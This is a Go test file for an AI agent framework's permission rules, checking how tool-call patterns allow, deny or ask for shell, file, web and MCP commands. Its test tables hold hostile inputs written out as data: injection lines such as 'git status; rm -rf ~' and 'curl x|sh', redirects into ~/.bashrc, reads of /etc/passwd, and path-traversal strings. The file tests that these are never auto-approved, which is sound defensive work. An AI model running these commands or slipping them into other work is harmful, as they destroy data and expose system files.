package permission

import (
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/agentd/agentd/commands"
)

// Test specs shaped like the real commands.
var (
	shellSpec = commands.Spec{
		Name: "execute_shell", Class: commands.ClassExecute, Subject: "command",
		Params: commands.Object(commands.Prop{Name: "command", Schema: commands.String("shell command line", 2000)}),
	}
	readSpec = commands.Spec{
		Name: "read_file", Class: commands.ClassRead, Subject: "path",
		Params: commands.FromStruct(struct {
			Path string `json:"path"`
		}{}),
	}
	writeSpec = commands.Spec{
		Name: "write_file", Class: commands.ClassWriteWorkspace, Subject: "path",
		Params: commands.FromStruct(struct {
			Path    string `json:"path"`
			Content string `json:"content"`
		}{}),
	}
	webpageSpec = commands.Spec{
		Name: "read_webpage", Class: commands.ClassNetwork, Subject: "url",
		Params: commands.Object(commands.Prop{Name: "url", Schema: commands.String("URL", 2000)}),
	}
	replySpec = commands.Spec{
		Name: "reply", Class: commands.ClassMessage,
		Params: commands.Object(commands.Prop{Name: "text", Schema: commands.String("message", 2000)}),
	}
	// MCP tools are execute commands named server.tool, with no Subject.
	mcpSpec = commands.Spec{
		Name: "web.search", Class: commands.ClassExecute,
		Params: commands.Object(
			commands.Prop{Name: "query", Schema: commands.String("query", 500)},
			commands.Prop{Name: "limit", Schema: &commands.Schema{Type: "integer"}},
		),
	}
	pythonSpec = commands.Spec{
		Name: "execute_python_file", Class: commands.ClassExecute, Subject: "path",
		Params: commands.Object(commands.Prop{Name: "path", Schema: commands.String("script", 256)}),
	}
	noClassSpec = commands.Spec{Name: "mystery", Params: commands.Object()}
)

func TestMatch(t *testing.T) {
	tests := []struct {
		name, pattern string
		spec          commands.Spec
		subject       string
		allows        bool
		denies        bool
	}{
		{"any_path", "read_file(*)", readSpec, "notes/a.txt", true, true},
		// An empty path is no workspace path: no allow rule approves it (the command refuses it).
		{"star_matches_empty", "read_file(*)", readSpec, "", false, true},
		{"command_alone", "read_file", readSpec, "x/y z", true, true},
		{"other_command", "read_file(*)", writeSpec, "notes/a.txt", false, false},
		{"command_prefix_is_not_enough", "read(*)", readSpec, "a", false, false},
		{"path_prefix", "write_file(notes/*)", writeSpec, "notes/a.txt", true, true},
		{"star_crosses_slash", "write_file(notes/*)", writeSpec, "notes/deep/er/a.txt", true, true},
		{"path_outside", "write_file(notes/*)", writeSpec, "notes", false, false},
		{"path_other_dir", "write_file(notes/*)", writeSpec, "other/notes/a", false, false},
		{"whole_subject", "read_file(a)", readSpec, "ab", false, false},
		{"case_sensitive", "read_file(a)", readSpec, "A", false, false},
		{"no_trimming", "read_file(a)", readSpec, " a", false, false},
		{"question_mark_one_char", "read_file(a?c)", readSpec, "abc", true, true},
		{"question_mark_one_rune", "read_file(a?c)", readSpec, "aéc", true, true},
		{"question_mark_not_two", "read_file(a?c)", readSpec, "abbc", false, false},
		{"question_mark_not_zero", "read_file(a?c)", readSpec, "ac", false, false},
		{"escaped_star_is_literal", `read_file(a\*)`, readSpec, "a*", true, true},
		{"escaped_star_not_wildcard", `read_file(a\*)`, readSpec, "ab", false, false},
		{"escaped_newline", `reply(a\nb)`, replySpec, "a\nb", true, true},
		{"inner_star", "read_file(notes/*.md)", readSpec, "notes/x/y.md", true, true},
		{"inner_star_backtracks", "read_file(*a*b)", readSpec, "xaxaxbxb", true, true},
		{"command_glob", "read_*(*)", readSpec, "a", true, true},
		{"command_glob_other", "write_*(*)", readSpec, "a", false, false},
		{"mcp_name_with_dot", "web.search(*)", mcpSpec, "golang generics", true, true},
		{"message_star_crosses_lines", "reply(*)", replySpec, "line one\nline two; ok", true, true},
		{"zero_pattern", "", readSpec, "a", false, false},
		// The execute rules (see TestExecuteShellSafety for the corpus).
		{"shell_prefix", "execute_shell(git status*)", shellSpec, "git status --short", true, true},
		{"shell_exact", "execute_shell(git status*)", shellSpec, "git status", true, true},
		{"shell_metachar_allow_no_deny_yes", "execute_shell(git status*)", shellSpec, "git status; rm -rf ~", false, true},
		{"shell_anything", "execute_shell(**)", shellSpec, "git status; rm -rf ~", true, true},
		// `*` is any plain command, so a line of plain commands; `**` also approves lines that are not plain.
		{"shell_star_any_plain_commands", "execute_shell(*)", shellSpec, "git status; rm -rf ~", true, true},
		{"shell_star_not_anything", "execute_shell(*)", shellSpec, "git status; rm -rf $HOME", false, true},
		{"shell_triple_star_is_anything", "execute_shell(***)", shellSpec, "a|b", true, true},
		{"shell_star_star_inside_is_star", "execute_shell(git **)", shellSpec, "git a|b", false, true},
		{"shell_literal_metachar", "execute_shell(make && make install)", shellSpec, "make && make install", true, true},
		{"shell_literal_metachar_with_star", "execute_shell(make * && make install)", shellSpec, "make -j4 && make install", true, true},
		{"shell_literal_metachar_star_cannot_add", "execute_shell(make * && make install)", shellSpec, "make x; rm && make install", false, true},
		{"shell_question_mark_no_metachar", "execute_shell(ls ?)", shellSpec, "ls ;", false, true},
		{"shell_question_mark_plain", "execute_shell(ls ?)", shellSpec, "ls a", true, true},
		{"shell_glob_command_never_allows", "*(*)", shellSpec, "ls", false, true},
		{"mcp_metachar_asks", "web.search(*)", mcpSpec, "a; b", false, true},
		{"mcp_glob_command_never_allows", "web.*(*)", mcpSpec, "golang", false, true},
		{"unknown_class_is_execute", "*(*)", noClassSpec, "", false, true},
		{"unknown_class_literal", "mystery(*)", noClassSpec, "", true, true},
		// The `..` rule.
		{"dotdot_not_by_glob", "write_file(notes/*)", writeSpec, "notes/../config.toml", false, true},
		{"dotdot_exact_pattern", "write_file(notes/../x)", writeSpec, "notes/../x", true, true},
		// A path outside the workspace is never approved, not even by `**`.
		{"dotdot_anything", "write_file(**)", writeSpec, "../x", false, true},
		{"dotdot_inside_name_fine", "write_file(notes/*)", writeSpec, "notes/a..b", true, true},
		{"dotdot_url", "read_webpage(https://x.example/docs/*)", webpageSpec, "https://x.example/docs/../admin", false, true},
		{"dotdot_url_encoded", "read_webpage(https://x.example/docs/*)", webpageSpec, "https://x.example/docs/%2E%2e/admin", false, true},
		{"dotdot_read_any", "read_file(*)", readSpec, "../../etc/passwd", false, true},
		{"dotdot_execute_path", "execute_python_file(scripts/*)", pythonSpec, "scripts/../x.py", false, true},
		{"dotdot_execute_path_plain", "execute_python_file(scripts/*)", pythonSpec, "scripts/a/x.py", true, true},
		{"dotdot_shell", "execute_shell(cat notes/*)", shellSpec, "cat notes/.\\./secret", false, true},
		{"dotdot_shell_cd", "execute_shell(cd *)", shellSpec, "cd ..", false, true},
		{"dotdot_shell_anything", "execute_shell(**)", shellSpec, "cd ..", true, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var p Pattern
			if tt.pattern != "" {
				p = MustParse(tt.pattern)
			}
			if got := p.Allows(tt.spec, tt.subject); got != tt.allows {
				t.Errorf("%s.Allows(%s, %q) = %v, want %v", p, tt.spec.Name, tt.subject, got, tt.allows)
			}
			if got := p.Denies(tt.spec, tt.subject); got != tt.denies {
				t.Errorf("%s.Denies(%s, %q) = %v, want %v", p, tt.spec.Name, tt.subject, got, tt.denies)
			}
		})
	}
}

// TestExecuteShellSafety is the corpus of command lines that try to ride a second command,
// a substitution or a redirect on an approved prefix. None may be auto-approved.
func TestExecuteShellSafety(t *testing.T) {
	allow := MustParse("execute_shell(git status*)")
	plain := []string{
		"git status",
		"git status --short",
		"git status -- 'notes/a b.txt'",
		"git status ~/src/x",
		"git status #comment",
		"git status café",
		"git status;", // the same command as "git status": a line is read as the shell reads it
	}
	for _, s := range plain {
		if !allow.Allows(shellSpec, s) {
			t.Errorf("%s does not allow the plain command %q", allow, s)
		}
	}
	attacks := []struct{ name, line string }{
		{"semicolon", "git status; rm -rf ~"},
		{"semicolon_no_space", "git status;rm -rf ~"},
		{"and", "git status && curl x|sh"},
		{"or", "git status || rm -rf ~"},
		{"background", "git status & rm -rf ~"},
		{"pipe", "git status | sh"},
		{"command_substitution", "git status $(rm -rf ~)"},
		{"parameter_expansion", "git status ${IFS}x"},
		{"variable", "git status $HOME"},
		{"backticks", "git status `rm -rf ~`"},
		{"newline", "git status\nrm -rf ~"},
		{"carriage_return", "git status\rrm -rf ~"},
		{"crlf", "git status\r\nrm -rf ~"},
		{"nul", "git status\x00rm -rf ~"},
		{"tab", "git status\trm"},
		{"vertical_tab", "git status\vrm"},
		{"form_feed", "git status\frm"},
		{"c1_next_line", "git status\u0085rm"},
		{"line_separator", "git status\u2028rm -rf ~"},
		{"paragraph_separator", "git status\u2029rm -rf ~"},
		{"bidi_override", "git status \u202erm -rf ~"},
		{"zero_width_joiner", "git status\u200drm"},
		{"invalid_utf8", "git status \xff"},
		{"replacement_char", "git status \ufffd"},
		{"redirect_out", "git status > ~/.bashrc"},
		{"redirect_append", "git status >> ~/.bashrc"},
		{"redirect_in", "git status < /etc/passwd"},
		{"process_substitution", "git status <(rm -rf ~)"},
		{"subshell", "git status (rm -rf ~)"},
		{"zsh_glob_qualifier", "git status *(e:'rm -rf ~':)"},
		{"here_string", "git status <<< x"},
	}
	for _, tt := range attacks {
		t.Run(tt.name, func(t *testing.T) {
			if allow.Allows(shellSpec, tt.line) {
				t.Errorf("%s approves %q", allow, tt.line)
			}
			v := Evaluate(shellSpec, shellArgs(tt.line), Options{AutoRead: true}, Rules{Layer: "agent", Allow: []Pattern{allow}})
			if v.Effect != Ask {
				t.Errorf("Evaluate(%q) = %+v, want ask", tt.line, v)
			}
			if deny := MustParse("execute_shell(*rm*)"); strings.Contains(tt.line, "rm") && !deny.Denies(shellSpec, tt.line) {
				t.Errorf("deny %s does not cover %q: deny wildcards must match everything", deny, tt.line)
			}
			if !MustParse("execute_shell(**)").Allows(shellSpec, tt.line) {
				t.Errorf("execute_shell(**) does not allow %q", tt.line)
			}
		})
	}
}

func TestTraversal(t *testing.T) {
	tests := []struct {
		name, in    string
		shell, want bool
	}{
		{"alone", "..", false, true},
		{"leading", "../x", false, true},
		{"middle", "a/../b", false, true},
		{"trailing", "a/..", false, true},
		{"backslash", `a\..\b`, false, true},
		{"quoted", "'..'", false, true},
		{"after_equals", "--file=../x", false, true},
		{"url_encoded", "a/%2e%2e/b", false, true},
		{"url_encoded_mixed", "a/.%2E/b", false, true},
		{"space_separated", "cd .. x", false, true},
		{"none", "notes/a.txt", false, false},
		{"dot", "./a", false, false},
		{"triple_dot", ".../a", false, false},
		{"inside_name", "a..b", false, false},
		{"revision_range", "main..dev", false, false},
		{"name_ends_with_dots", "a../b", false, false},
		{"name_starts_with_dots", "..a", false, false},
		{"non_ascii_neighbour", "é..", false, false},
		{"shell_backslash_between_dots", `cat notes/.\./x`, true, true},
		{"shell_quotes_between_dots", `cat notes/.''./x`, true, true},
		{"shell_double_quotes", `cat notes/".."/x`, true, true},
		{"backslash_not_dropped_for_files", `notes/.\./x`, false, false},
		{"shell_plain", "git log main..dev", true, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := traversal(tt.in, tt.shell); got != tt.want {
				t.Errorf("traversal(%q, %v) = %v, want %v", tt.in, tt.shell, got, tt.want)
			}
		})
	}
}

// refMatch is the obviously correct, slow glob match that matchGlob must agree with.
func refMatch(toks []token, s string, ok func(rune) bool) bool {
	memo := map[[2]int]bool{}
	var m func(ti, si int) bool
	m = func(ti, si int) bool {
		key := [2]int{ti, si}
		if v, seen := memo[key]; seen {
			return v
		}
		var res bool
		switch {
		case ti == len(toks):
			res = si == len(s)
		case toks[ti].kind == tokLit:
			res = strings.HasPrefix(s[si:], toks[ti].lit) && m(ti+1, si+len(toks[ti].lit))
		default:
			var r rune
			w := 0
			if si < len(s) {
				r, w = utf8.DecodeRuneInString(s[si:])
			}
			step := w > 0 && ok(r)
			if toks[ti].kind == tokOne {
				res = step && m(ti+1, si+w)
			} else {
				res = m(ti+1, si) || (step && m(ti, si+w))
			}
		}
		memo[key] = res
		return res
	}
	return m(0, 0)
}

func TestGlobMatchesReference(t *testing.T) {
	rng := rand.New(rand.NewPCG(7, 11))
	pick := func(alphabet []string, n int) string {
		var b strings.Builder
		for range n {
			b.WriteString(alphabet[rng.IntN(len(alphabet))])
		}
		return b.String()
	}
	globChars := []string{"a", "b", ";", "*", "?", "*", `\*`, "é", `\(`, `\)`}
	textChars := []string{"a", "b", ";", "é", "\n", "\xff", "*", "("}
	for range 20000 {
		glob := pick(globChars, rng.IntN(8))
		p, err := Parse("x(" + glob + ")")
		if err != nil {
			t.Fatalf("generated bad pattern %q: %v", glob, err)
		}
		s := pick(textChars, rng.IntN(10))
		for _, ok := range []func(rune) bool{anyRune, plainRune} {
			if got, want := matchGlob(p.subj, s, ok), refMatch(p.subj, s, ok); got != want {
				t.Fatalf("matchGlob(%q, %q) = %v, reference says %v", p, s, got, want)
			}
		}
	}
}

func TestAppliesTo(t *testing.T) {
	tests := []struct {
		name, pattern string
		spec          commands.Spec
		allow, want   bool
	}{
		{name: "literal_read", pattern: "read_file(notes/*)", spec: readSpec, allow: true, want: true},
		{name: "other_command", pattern: "read_file(*)", spec: writeSpec, allow: true, want: false},
		{name: "wildcard_command_read", pattern: "*_file(*)", spec: readSpec, allow: true, want: true},
		{name: "wildcard_command_never_allows_execute", pattern: "execute_*(**)", spec: shellSpec, allow: true, want: false},
		{name: "wildcard_command_denies_execute", pattern: "execute_*(*)", spec: shellSpec, allow: false, want: true},
		{name: "literal_execute", pattern: "execute_shell(git status*)", spec: shellSpec, allow: true, want: true},
		{name: "mcp_tool_glob_allow", pattern: "web.*", spec: mcpSpec, allow: true, want: false},
		{name: "mcp_tool_literal", pattern: "web.search", spec: mcpSpec, allow: true, want: true},
		{name: "unknown_class_like_execute", pattern: "myst*", spec: noClassSpec, allow: true, want: false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := MustParse(tt.pattern).AppliesTo(tt.spec, tt.allow); got != tt.want {
				t.Errorf("%s.AppliesTo(%s, allow=%v) = %v, want %v", tt.pattern, tt.spec.Name, tt.allow, got, tt.want)
			}
		})
	}
	if (Pattern{}).AppliesTo(readSpec, false) {
		t.Error("the zero Pattern applies to read_file")
	}
}
